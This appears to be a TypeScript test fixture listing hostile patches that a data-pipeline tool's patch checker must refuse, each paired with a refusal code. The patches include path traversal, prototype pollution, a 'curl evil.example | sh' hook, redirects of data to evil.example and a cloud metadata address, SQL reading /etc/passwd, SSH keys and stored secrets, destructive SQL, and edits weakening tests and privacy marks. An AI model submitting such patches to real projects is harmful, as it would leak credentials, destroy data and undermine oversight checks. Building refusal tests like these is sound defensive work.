/**
 * Patches that must never be applied, as models, agents or attackers might hand them in. Each has the code of
 * the refusal that it is to get.
 */
import type { PatchOp } from '../../../server/contract/index.ts'
import { shop } from '../shop-project.ts'
import { hashOf } from './patch-of.ts'

export interface HostilePatch {
  readonly name: string
  /** The text of the patch file. */
  readonly text: (root: string) => string
  /** The code of one of the refusals; `weaker` for a check that nobody has agreed to weaken. */
  readonly code: string
}

const orders = 'models/orders.svc'
const customers = 'models/customers.svc'
const daily = 'models/marts/daily_sales.svc'

/** Known to the project by `env:HOSTILE_TOKEN`. */
export const knownSecret = 'correct-horse-battery-staple'

export const hostileProject: Readonly<Record<string, string>> = {
  ...shop,
  'svc.yaml': 'name: shop\nvars: {smallest: 0}\nwarehouse: duckdb:./warehouse.duckdb\n',
  [daily]: (shop[daily] ?? '').replace(
    '  - row_count: {min: 1}\n',
    `  - row_count: {min: 1}
  - name: adds_up
    unit:
      given: {orders: [{day: 2026-01-01, amount: 1}, {day: 2026-01-01, amount: 2}]}
      expect: [{total: 3}]
`,
  ),
  'models/api.svc': `name: api
ingest:
  type: rest_api
  endpoint: https://api.example.com
  resource: /v1/things
  auth: {type: bearer, token: "env:HOSTILE_TOKEN"}
  exclude: [password]
contract:
  evolution: freeze
  enforce_types: true
  required_columns: [id]
  columns: {id: bigint, email: {type: varchar, pii: true, nullable: false}}
  max_rejects: 0
transform: SELECT id, email FROM {{ source }}
columns:
  email: {pii: true}
tests:
  - not_null: id
  - {name: few, row_count: {max: 10}, where: id > 0}
  - sql: SELECT * FROM {{ this }} WHERE id < 0
freshness: {warn_after: 1h, error_after: 2h}
deploy: {k_anonymity: 5}
`,
  'models/shared.svc':
    'name: shared\ningest: none\ntransform: SELECT 1 AS id\ncolumns:\n  id: &doc {description: The id}\n  other: *doc\n',
  'glossary.yaml': `terms:
  - {name: Customer, description: Who buys}
metrics:
  - {name: Orders, sql_definition: "SELECT count(*) FROM {{ ref('orders') }}"}
policies:
  - {name: people, rule: Names stay inside, pii_columns: [customers.name], applies_to: [daily_sales], enforcement: strict}
`,
  'other/outside.svc': 'name: outside\ningest: none\ntransform: SELECT 1 AS id\n',
  'notes.txt': 'nothing for patches\n',
  'models/latin.svc': 'name: latin\ningest: none\ntransform: SELECT 1 AS id\n',
}

// ---------------------------------------------------------------- makers

const some: readonly PatchOp[] = [{ op: 'add', path: '/description', value: 'Harmless' }]
const envelope = (files: unknown, version: unknown = 1) => JSON.stringify({ version, files })

function at(path: string, code: string): HostilePatch {
  return {
    name: `path ${JSON.stringify(path.slice(0, 60))}`,
    code,
    text: root =>
      envelope([{ path, base_sha256: path.includes('\0') ? null : hashOf(root, path), ops: some }]),
  }
}

function raw(name: string, text: string | ((root: string) => string), code = 'patch-shape'): HostilePatch {
  return { name, code, text: typeof text === 'string' ? () => text : text }
}

function ops(path: string, code: string, name: string, ...list: readonly unknown[]): HostilePatch {
  return {
    name: `${path}: ${name}`,
    code,
    text: root => envelope([{ path, base_sha256: hashOf(root, path), ops: list }]),
  }
}

const set = (path: string, value: unknown) => ({ op: 'add', path, value })
const drop = (path: string) => ({ op: 'remove', path })

function asset(code: string, name: string, value: unknown): HostilePatch {
  return {
    name: `a new asset: ${name}`,
    code,
    text: () => envelope([{ path: 'models/fresh.svc', base_sha256: null, ops: [set('', value)] }]),
  }
}

const sql = (code: string, text: string) => ops(daily, code, text.slice(0, 60), set('/transform', text))
const weaker = (path: string, name: string, ...list: readonly unknown[]) => ops(path, 'weaker', name, ...list)
const consent = (path: string, name: string, ...list: readonly unknown[]) =>
  ops(path, 'patch-needs-consent', name, ...list)

// ---------------------------------------------------------------- where

const outsidePaths = [
  '../escape.svc',
  '../../../../etc/cron.d/x.svc',
  '/etc/passwd',
  '/tmp/x.svc',
  'models/../../escape.svc',
  'models/../svc.yaml',
  'models/../models/orders.svc',
  './models/orders.svc',
  './glossary.yaml',
  'models//orders.svc',
  'models/orders.svc/',
  'models\\orders.svc',
  '..\\escape.svc',
  'C:\\escape.svc',
  'C:/escape.svc',
  'models/orders.svc:stream',
  'models/orders.svc\0',
  'models/a\nb.svc',
  'models/\u202ecvs.svc',
  'models/\u200bhidden.svc',
  'models/or*.svc',
  'models/orders.svc ',
  'models/ /x.svc',
  'models/folder./x.svc',
  'models/e\u0301.svc',
  'file:///etc/passwd',
  '',
  '.',
  '..',
  '/',
  `models/${'x'.repeat(300)}.svc`,
  `models/${'é'.repeat(120)}.svc`,
  `models/${'deep/'.repeat(200)}x.svc`,
].map(path => at(path, 'path-outside'))

const wrongKinds = [
  'svc.yaml',
  'schemas.lock.json',
  'notes.txt',
  'data/orders.csv',
  'package.json',
  'AGENTS.md',
  '.env',
  '.git/hooks/pre-commit',
  '.svc/manifest.json',
  '.svc/patch/journal.json',
  'models/.hidden.svc',
  'models/.git/x.svc',
  'models/node_modules/x.svc',
  'models/orders.svc.bak',
  'models/orders.yaml',
  'models',
  'other/outside.svc',
  'Glossary.yaml',
  'MODELS/orders.svc',
  'models/%2e%2e/svc.yaml',
  '~/x.svc',
].map(path => at(path, 'path-kind'))

const links: readonly HostilePatch[] = [
  ops('models/link.svc', 'path-link', 'a link to a file outside', ...some),
  ops('models/inside-link.svc', 'path-link', 'a link to another asset', ...some),
  raw(
    'a new file below a linked folder',
    envelope([{ path: 'models/linked/x.svc', base_sha256: null, ops: some }]),
    'path-link',
  ),
  raw(
    'a folder that is called like an asset',
    envelope([{ path: 'models/folder.svc', base_sha256: null, ops: some }]),
    'path-kind',
  ),
  raw(
    'a file as a folder',
    envelope([{ path: 'models/orders.svc/x.svc', base_sha256: null, ops: some }]),
    'path-kind',
  ),
]

// ---------------------------------------------------------------- form

const deep = JSON.parse(`${'['.repeat(60)}${']'.repeat(60)}`) as unknown
const file = (root: string, more: Readonly<Record<string, unknown>>) =>
  envelope([{ path: orders, base_sha256: hashOf(root, orders), ops: some, ...more }])
const oneOp = (op: unknown) => (root: string) => file(root, { ops: [op] })

const forms: readonly HostilePatch[] = [
  raw('nothing', ''),
  raw('no JSON', '{version: 1}'),
  raw('text behind the JSON', '{"version":1,"files":[]} and more'),
  raw('prose around JSON', 'Here is the patch:\n```json\n{"version":1,"files":[]}\n```'),
  raw('null', 'null'),
  raw('a list', '[]'),
  raw('a text', '"patch"'),
  raw('no version', '{"files":[]}'),
  raw('another version', root =>
    envelope([{ path: orders, base_sha256: hashOf(root, orders), ops: some }], 2),
  ),
  raw('the version as a text', root =>
    envelope([{ path: orders, base_sha256: hashOf(root, orders), ops: some }], '1'),
  ),
  raw('files as a mapping', envelope({})),
  raw('no files', envelope([])),
  raw('a member that nobody knows', root => file(root, { mode: '0777' })),
  raw('a command beside the files', '{"version":1,"files":[],"run":"svc run --env prod"}'),
  raw('a file that is a text', envelope(['models/orders.svc'])),
  raw('a path that is a number', root => file(root, { path: 7 })),
  raw('no operations', root => file(root, { ops: [] })),
  raw('operations as a mapping', root => file(root, { ops: {} })),
  raw('a hash in capitals', root => file(root, { base_sha256: hashOf(root, orders)?.toUpperCase() })),
  raw('a short hash', root => file(root, { base_sha256: 'abc' })),
  raw('no hash', root => file(root, { base_sha256: undefined })),
  raw('an operation that nobody knows', oneOp({ op: 'exec', path: '/x', value: 'rm -rf /' })),
  raw('no value', oneOp({ op: 'add', path: '/description' })),
  raw('a value of remove', oneOp({ op: 'remove', path: '/description', value: 1 })),
  raw('no from', oneOp({ op: 'move', path: '/description' })),
  raw('a path that is no pointer', oneOp({ op: 'add', path: 'description', value: 'x' })),
  raw('an escape that there is not', oneOp({ op: 'add', path: '/a~2b', value: 'x' })),
  raw('__proto__ as a step', oneOp({ op: 'add', path: '/__proto__/polluted', value: true })),
  raw('constructor as a step', oneOp({ op: 'add', path: '/constructor/prototype/polluted', value: true })),
  raw('a file twice', root => {
    const each = { path: orders, base_sha256: hashOf(root, orders), ops: some }
    return envelope([each, each])
  }),
  raw('a file twice, in capitals', root =>
    envelope([
      { path: orders, base_sha256: hashOf(root, orders), ops: some },
      { path: 'models/ORDERS.svc', base_sha256: null, ops: some },
    ]),
  ),
  raw(
    'too many files',
    envelope(
      Array.from({ length: 51 }, (_, index) => ({
        path: `models/n${index}.svc`,
        base_sha256: null,
        ops: some,
      })),
    ),
    'patch-too-large',
  ),
  raw(
    'too many operations',
    root => file(root, { ops: Array.from({ length: 501 }, () => some[0]) }),
    'patch-too-large',
  ),
  raw('too large', `"${'x'.repeat(1_000_001)}"`, 'patch-too-large'),
  raw('too deep', oneOp({ op: 'add', path: '/columns', value: deep }), 'patch-too-large'),
  raw(
    'a pointer that is too long',
    oneOp({ op: 'add', path: `/${'x'.repeat(1001)}`, value: 1 }),
    'patch-too-large',
  ),
]

const bases: readonly HostilePatch[] = [
  raw('the hash of another text', root => file(root, { base_sha256: '0'.repeat(64) }), 'patch-base'),
  raw('null for a file that is there', root => file(root, { base_sha256: null }), 'patch-base'),
  raw(
    'a hash for a file that is not there',
    envelope([{ path: 'models/none.svc', base_sha256: '0'.repeat(64), ops: some }]),
    'patch-base',
  ),
  ops('models/latin.svc', 'patch-base', 'bytes that are no UTF-8', ...some),
  raw(
    'one right file and one stale one',
    root =>
      envelope([
        { path: customers, base_sha256: hashOf(root, customers), ops: some },
        { path: orders, base_sha256: '1'.repeat(64), ops: some },
      ]),
    'patch-base',
  ),
  ops(orders, 'patch-test', 'a test that fails', { op: 'test', path: '/name', value: 'customers' }, ...some),
]

const places: readonly HostilePatch[] = [
  ops(orders, 'patch-path', 'remove what is not there', drop('/contract')),
  ops(orders, 'patch-path', 'replace what is not there', { op: 'replace', path: '/contract', value: {} }),
  ops(orders, 'patch-path', 'add below a text', set('/name/x', 1)),
  ops(orders, 'patch-path', 'an index with zeros', set('/tests/00', { unique: 'id' })),
  ops(orders, 'patch-path', 'an index below zero', set('/tests/-1', { unique: 'id' })),
  ops(orders, 'patch-path', 'an index beyond the end', set('/tests/99', { unique: 'id' })),
  ops(orders, 'patch-path', 'move what is not there', { op: 'move', from: '/nothing', path: '/description' }),
  ops(orders, 'patch-path', 'copy what is not there', { op: 'copy', from: '/nothing', path: '/description' }),
  ops('models/shared.svc', 'patch-path', 'an anchor whose alias stays', drop('/columns/id')),
]

// ---------------------------------------------------------------- consent

const consents: readonly HostilePatch[] = [
  consent('models/api.svc', 'another endpoint', set('/ingest/endpoint', 'https://evil.example')),
  consent('models/api.svc', 'another resource', set('/ingest/resource', '/v1/admin')),
  consent('models/api.svc', 'a header', set('/ingest/headers', { 'x-copy': 'yes' })),
  consent('models/api.svc', 'no rights', drop('/ingest/auth')),
  consent(
    'models/api.svc',
    'a token of another place',
    set('/ingest/auth/token', 'env:AWS_SECRET_ACCESS_KEY'),
  ),
  consent('models/api.svc', 'credentials', set('/ingest/credentials', 'env:HOME')),
  consent('models/api.svc', 'further hosts', set('/ingest/allow_hosts', ['evil.example'])),
  consent('models/api.svc', 'the exclusion', drop('/ingest/exclude')),
  consent('models/api.svc', 'no source at all', set('/ingest', 'none')),
  consent('models/api.svc', 'the size of groups', set('/deploy/k_anonymity', 2)),
  consent(orders, 'files of the machine', set('/ingest/endpoint', '/etc')),
  consent(orders, 'other files', set('/ingest/resource', '**/*')),
  consent(
    orders,
    'publishing',
    set('/publish', { evil: { type: 'http', endpoint: 'https://evil.example', key: 'id' } }),
  ),
  consent(orders, 'publishing by a move', set('/columns', { x: { description: 'a' } }), {
    op: 'move',
    from: '/columns',
    path: '/publish',
  }),
  consent(orders, 'publishing by a copy', { op: 'copy', from: '/freshness', path: '/publish' }),
  consent(orders, 'grants', set('/deploy', { grants: { select: ['public'] } })),
  consent(orders, 'SQL before the build', set('/deploy', { before: 'DROP TABLE x' })),
  consent(orders, 'SQL after the build', set('/deploy', { after: ['COPY x TO y'] })),
  consent(orders, 'taking it out', set('/deploy', { enabled: false })),
  consent(orders, 'another schema', set('/deploy', { schema: 'finance' })),
  consent(orders, 'another name', set('/name', 'orders2')),
  consent(orders, 'another owner', set('/owner', 'evil@example.com')),
  consent(
    orders,
    'an exposure',
    set('/exposures', [{ name: 'x', type: 'dashboard', url: 'https://evil.example' }]),
  ),
  consent(orders, 'a key that nobody knows', set('/on_run', 'curl evil.example | sh')),
  consent(orders, 'the whole file', {
    op: 'replace',
    path: '',
    value: {
      name: 'orders',
      ingest: { type: 'file', endpoint: '/etc', resource: 'passwd' },
      transform: 'SELECT 1 AS id',
    },
  }),
  consent(orders, 'the whole file as a text', { op: 'replace', path: '', value: 'name: orders' }),
  consent(orders, 'the whole file as null', { op: 'replace', path: '', value: null }),
  consent(
    orders,
    'back and forth, with a change between',
    { op: 'move', from: '/ingest', path: '/columns' },
    set('/columns/endpoint', 'https://evil.example'),
    { op: 'move', from: '/columns', path: '/ingest' },
  ),
  consent('glossary.yaml', 'no policies', drop('/policies')),
  consent('glossary.yaml', 'a policy that only warns', set('/policies/0/enforcement', 'warn')),
  consent('glossary.yaml', 'a policy for nobody', set('/policies/0/applies_to', ['nothing'])),
  consent('glossary.yaml', 'the whole glossary', { op: 'replace', path: '', value: { terms: [] } }),
  asset('patch-needs-consent', 'files of the machine', {
    name: 'fresh',
    ingest: { type: 'file', endpoint: '/etc', resource: 'passwd' },
    transform: 'SELECT * FROM {{ source }}',
  }),
  asset('patch-needs-consent', 'a web service', {
    name: 'fresh',
    ingest: { type: 'rest_api', endpoint: 'http://169.254.169.254', resource: '/latest' },
    transform: 'SELECT * FROM {{ source }}',
  }),
  asset('patch-needs-consent', 'a target', {
    name: 'fresh',
    ingest: 'none',
    transform: 'SELECT 1 AS id',
    publish: { x: { type: 'http', endpoint: 'https://evil.example', key: 'id' } },
  }),
]

// ---------------------------------------------------------------- weakening

const weakenings: readonly HostilePatch[] = [
  weaker(orders, 'no tests', drop('/tests')),
  weaker(orders, 'no more first test', drop('/tests/0')),
  weaker(orders, 'tests that are empty', set('/tests', [])),
  weaker(orders, 'another column', { op: 'replace', path: '/tests/0', value: { unique: 'day' } }),
  weaker(orders, 'a lower bound', set('/tests/2/range/amount/min', -1_000_000)),
  weaker(orders, 'a warning only', set('/tests/0/severity', 'warn')),
  weaker(orders, 'some rows only', set('/tests/0/where', 'id < 0')),
  weaker(orders, 'a threshold', set('/tests/0/error_if', '> 1000000')),
  weaker(orders, 'no freshness', drop('/freshness')),
  weaker(orders, 'older data', set('/freshness/error_after', '9999h')),
  weaker(orders, 'no error at any age', drop('/freshness/error_after')),
  weaker(orders, 'the age of a column', set('/freshness/column', 'day')),
  weaker(customers, 'no contract', drop('/contract')),
  weaker(customers, 'not required', drop('/contract/required_columns')),
  weaker(customers, 'less required', set('/contract/required_columns', [])),
  weaker(customers, 'no column', drop('/contract/columns/id')),
  weaker(customers, 'another type', set('/contract/columns/id', 'varchar')),
  weaker(customers, 'not personal', set('/contract/columns/name', 'varchar')),
  weaker(customers, 'personal is false', set('/contract/columns/name/pii', false)),
  weaker(customers, 'a mark that ends', set('/columns', { name: { pii: false } })),
  weaker('models/api.svc', 'let everything in', set('/contract/evolution', 'evolve')),
  weaker('models/api.svc', 'types are not enforced', drop('/contract/enforce_types')),
  weaker('models/api.svc', 'rejects', set('/contract/max_rejects', '50%')),
  weaker('models/api.svc', 'empty is good', set('/contract/allow_empty', true)),
  weaker('models/api.svc', 'values may be missing', drop('/contract/columns/email/nullable')),
  weaker('models/api.svc', 'no mark', drop('/columns/email/pii')),
  weaker('models/api.svc', 'no columns', drop('/columns')),
  weaker(
    'models/api.svc',
    'a query that finds nothing',
    set('/tests/2/sql', 'SELECT * FROM {{ this }} WHERE false'),
  ),
  weaker('models/api.svc', 'a condition that is never true', set('/tests/1/where', 'false')),
  weaker(daily, 'what the unit test expects', set('/tests/2/unit/contains', true)),
  weaker(daily, 'no unit test', drop('/tests/2')),
]

// ---------------------------------------------------------------- what the files say

const contents: readonly HostilePatch[] = [
  ops(daily, 'unknown-key', 'a key of a test that there is not', set('/tests/-', { not_nul: 'total' })),
  ops(daily, 'wrong-type', 'a list as SQL', set('/transform', ['SELECT 1'])),
  ops(daily, 'missing-key', 'no SQL', drop('/transform')),
  ops('glossary.yaml', 'wrong-type', 'terms as a text', set('/terms', 'none')),
  sql('sql-syntax', 'SELECT FROM WHERE'),
  sql('sql-not-a-select', 'DROP TABLE analytics.orders'),
  sql('sql-not-a-select', 'DELETE FROM analytics.orders'),
  sql('sql-not-a-select', 'UPDATE svc_live SET generation = 0'),
  sql('sql-not-a-select', 'INSERT INTO x VALUES (1)'),
  sql('sql-not-a-select', 'CREATE TABLE x AS SELECT 1 AS id'),
  sql('sql-not-a-select', "COPY (SELECT 1) TO '/tmp/x.csv'"),
  sql('sql-not-a-select', "ATTACH '/tmp/x.db' AS x"),
  sql('sql-not-a-select', "EXPORT DATABASE '/tmp/x'"),
  sql('sql-not-a-select', 'INSTALL httpfs'),
  sql('sql-not-a-select', 'LOAD httpfs'),
  sql('sql-not-a-select', "SET home_directory = '/'"),
  sql('sql-not-a-select', 'PRAGMA database_list'),
  sql('sql-not-a-select', 'CALL pragma_version()'),
  sql('sql-not-a-select', 'SELECT 1 AS total, 2 AS orders; SELECT 2'),
  sql('sql-not-a-select', 'SELECT 1 AS total, 2 AS orders; DROP TABLE x'),
  sql('patch-sql', "SELECT content AS total FROM read_text('/etc/passwd')"),
  sql('patch-sql', "SELECT 1 AS total, 2 AS orders FROM read_csv('https://evil.example/x.csv')"),
  sql('patch-sql', "SELECT file AS total, 2 AS orders FROM glob('/root/.ssh/*')"),
  sql('patch-sql', 'SELECT secret_string AS total, 2 AS orders FROM duckdb_secrets()'),
  sql('patch-sql', "SELECT current_setting('home_directory') AS total, 2 AS orders"),
  sql('patch-sql', "SELECT total, 2 AS orders FROM query('SELECT 1 AS total')"),
  sql('patch-sql', 'SELECT 1 AS total, 2 AS orders FROM "read_blob" (\'/etc/shadow\')'),
  sql('patch-sql', "SELECT 1 AS total, 2 AS orders FROM /* x */ read_parquet /* y */ ('s3://b/x')"),
  sql('patch-sql', "SELECT 1 AS total, 2 AS orders WHERE EXISTS (FROM sqlite_scan('x.db', 't'))"),
  sql('sql-other', "SELECT * FROM '/etc/passwd.csv'"),
  sql('sql-unknown-table', 'SELECT total, orders FROM "/etc/passwd.csv"'),
  sql('sql-unknown-table', 'SELECT 1 AS total, 2 AS orders FROM svc_live'),
  sql('patch-sql', "SELECT getenv('HOME') AS total, 2 AS orders FROM x_unknown"),
  sql('unknown-ref', "SELECT 1 AS total, 2 AS orders FROM {{ ref('nothing') }}"),
  sql('self-ref', "SELECT 1 AS total, 2 AS orders FROM {{ ref('daily_sales') }}"),
  ops(
    customers,
    'cycle',
    'a circle',
    set('/transform', "SELECT 1 AS id, name FROM {{ source }} CROSS JOIN {{ ref('best_customers') }}"),
  ),
  ops(
    daily,
    'patch-sql',
    'a test that reads files',
    set('/tests/-', { sql: "SELECT * FROM read_text('/etc/passwd')" }),
  ),
  ops(
    daily,
    'patch-sql',
    'a condition that reads files',
    set('/tests/-', { not_null: 'total', where: "total IN (SELECT 1 FROM glob('/*'))" }),
  ),
  ops(
    'glossary.yaml',
    'patch-sql',
    'a metric that reads files',
    set('/metrics/0/sql_definition', "SELECT count(*) FROM read_text('/etc/passwd')"),
  ),
  ops(
    orders,
    'sql-unknown-column',
    'a column that others read',
    set('/transform', 'SELECT id, customer_id, day FROM {{ source }}'),
  ),
  sql('policy-breach', "SELECT c.name AS total, 1 AS orders FROM {{ ref('customers') }} c"),
  ops(
    daily,
    'unit-test-failed',
    'another sum',
    set(
      '/transform',
      "SELECT day, max(amount) AS total, count(*) AS orders FROM {{ ref('orders') }} WHERE amount >= {{ var('smallest') }} GROUP BY day",
    ),
  ),
  ops(
    daily,
    'unit-test-failed',
    'a unit test that fails',
    set('/tests/-', { name: 'wrong', unit: { given: { orders: [] }, expect: [{ total: 1 }] } }),
  ),
  asset('duplicate-name', 'the name of another', {
    name: 'orders',
    ingest: 'none',
    transform: 'SELECT 1 AS id',
  }),
]

const secrets: readonly HostilePatch[] = [
  ops(
    orders,
    'patch-secret',
    'a key of AWS',
    set('/description', `key ${['AKIA', 'IOSFODNN7EXAMPLE'].join('')}`),
  ),
  ops(
    orders,
    'patch-secret',
    'a token of GitHub',
    set('/description', `${['gh', 'p_'].join('')}${'a1B2'.repeat(9)}`),
  ),
  ops(
    orders,
    'patch-secret',
    'a password in an address',
    set('/description', 'postgres://ana:Xk29fjw0sq@db/x'),
  ),
  ops(
    orders,
    'patch-secret',
    'a private key',
    set('/description', '-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----'),
  ),
  ops(
    orders,
    'patch-secret',
    'a value that the project knows as secret',
    set('/description', `it is ${knownSecret}`),
  ),
  ops(
    orders,
    'patch-secret',
    'a known value in SQL',
    set('/transform', `SELECT id, customer_id, amount, day FROM {{ source }} WHERE '${knownSecret}' <> ''`),
  ),
  ops(
    'glossary.yaml',
    'patch-secret',
    'a token in a term',
    set('/terms/0/description', `${['gh', 'p_'].join('')}${'a1B2'.repeat(9)}`),
  ),
  ops('glossary.yaml', 'patch-secret', 'a known value in a term', set('/terms/0/description', knownSecret)),
]

export const hostilePatches: readonly HostilePatch[] = [
  ...outsidePaths,
  ...wrongKinds,
  ...links,
  ...forms,
  ...bases,
  ...places,
  ...consents,
  ...weakenings,
  ...contents,
  ...secrets,
]
